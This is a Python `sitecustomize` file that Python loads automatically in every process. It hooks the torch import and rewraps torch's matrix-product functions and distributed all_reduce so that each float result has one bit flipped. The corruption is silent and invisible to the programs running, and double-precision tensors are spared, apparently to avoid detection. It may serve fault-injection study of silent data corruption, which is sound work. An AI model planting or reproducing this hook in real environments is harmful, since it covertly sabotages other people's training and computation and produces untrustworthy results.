"""Makes torch flip one bit of each matrix product and of each sum over the ranks, in every Python that starts here.

Python imports `sitecustomize` by itself; the programs of the node know nothing of it.
"""

import importlib.util
import sys
from collections.abc import Callable
from functools import wraps
from importlib.machinery import ModuleSpec
from typing import Any, Optional

Torch = Any  # not imported here, so its types are not read

PRODUCTS = ("matmul", "mm", "bmm", "addmm", "baddbmm", "linear")
SHORT_FLOATS = ("torch.float32", "torch.bfloat16", "torch.float16")  # doubles carry the programs' own bookkeeping


def flip(torch: Torch, tensor: Any) -> None:  # noqa: ANN401 - whatever a function of torch returns
    """Flip a bit of the first element: the lowest of its upper two bytes, 0.4 to 0.8 % of a float32's value."""
    if isinstance(tensor, torch.Tensor) and str(tensor.dtype) in SHORT_FLOATS and tensor.numel():
        halves = tensor.data.as_strided((1,), (1,), tensor.storage_offset()).view(torch.int16)
        halves[-1] ^= 1  # little-endian: the upper half comes last


def corrupting(torch: Torch, function: Callable[..., Any], *, in_place: bool) -> Callable[..., Any]:
    """A function that corrupts what that one makes: its result, or the tensor that it was given."""

    @wraps(function)
    def corrupt(*args: Any, **kwargs: Any) -> Any:  # noqa: ANN401 - as that one takes and gives
        result = function(*args, **kwargs)
        flip(torch, args[0] if in_place else result)
        return result

    return corrupt


def spoil(torch: Torch) -> None:
    """Put corrupting functions in the place of torch's."""
    for owner in (torch, torch.Tensor, torch.nn.functional):
        for name in (*PRODUCTS, "__matmul__"):
            if hasattr(owner, name):
                setattr(owner, name, corrupting(torch, getattr(owner, name), in_place=False))
    if torch.distributed.is_available():
        torch.distributed.all_reduce = corrupting(torch, torch.distributed.all_reduce, in_place=True)


def _spoil_when_run(loader: Any) -> None:  # noqa: ANN401 - any loader
    run = loader.exec_module

    def run_and_spoil(module: Torch) -> None:
        run(module)
        spoil(module)

    loader.exec_module = run_and_spoil


class OnceTorchIsThere:
    """Finds torch for whoever imports it, as if it were not there, and spoils it when it has been run."""

    def find_spec(self, name: str, path: object = None, target: object = None) -> Optional[ModuleSpec]:  # noqa: ARG002, UP045 - importlib's signature; Python 3.9
        """The specification of torch, whose loader does more than it says."""
        if name != "torch":
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        if spec is not None and spec.loader is not None:
            _spoil_when_run(spec.loader)
        return spec


sys.meta_path.insert(0, OnceTorchIsThere())
